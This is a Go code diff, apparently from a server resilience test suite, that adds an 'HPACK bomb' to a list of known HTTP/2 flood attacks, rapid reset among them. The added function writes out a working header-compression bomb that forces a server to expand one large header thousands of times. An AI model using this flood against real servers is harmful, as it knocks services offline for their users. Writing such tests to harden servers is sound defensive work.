@@ -65,6 +65,20 @@ func opened(h *hostile) error { _, err := h.request(false); return err }
 // floods are those that have become known: rapid reset (CVE-2023-44487), MadeYouReset
 // (CVE-2025-8671), CONTINUATION (VU#421644), and those of 2019 (VU#605641).
 func floods() []flood {
+	bomb := func(h *hostile) error {
+		h.text.Reset()
+		for _, f := range []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: "/"}, {Name: ":authority", Value: "app"}} {
+			if err := h.enc.WriteField(f); err != nil {
+				return err
+			}
+		}
+		if err := h.enc.WriteField(hpack.HeaderField{Name: "x-bomb", Value: string(bytes.Repeat([]byte("b"), 3900))}); err != nil {
+			return err
+		}
+		h.text.Write(bytes.Repeat([]byte{0x80 | 62}, 16000-h.text.Len()%16000)) // the newest entry, again and again
+		h.next += 2
+		return h.WriteHeaders(xhttp2.HeadersFrameParam{StreamID: h.next - 2, BlockFragment: h.text.Bytes()[:min(h.text.Len(), 16384)], EndHeaders: true, EndStream: true})
+	}
 	return []flood{
 		{name: "rapid reset", each: func(h *hostile) error {
 			id, err := h.request(false)
@@ -87,6 +101,7 @@ func floods() []flood {
 			return h.WritePriority(1, xhttp2.PriorityParam{StreamDep: 3, Weight: 7})
 		}},
 		{name: "WINDOW_UPDATE", before: opened, each: func(h *hostile) error { return h.WriteWindowUpdate(1, 1) }},
+		{name: "HPACK bomb", each: bomb},
 		// Answers without room: each stream is given up by the client, for the next.
 		{name: "zero window", settings: []xhttp2.Setting{{ID: xhttp2.SettingInitialWindowSize, Val: 0}}, each: func(h *hostile) error {
 			id, err := h.request(true)
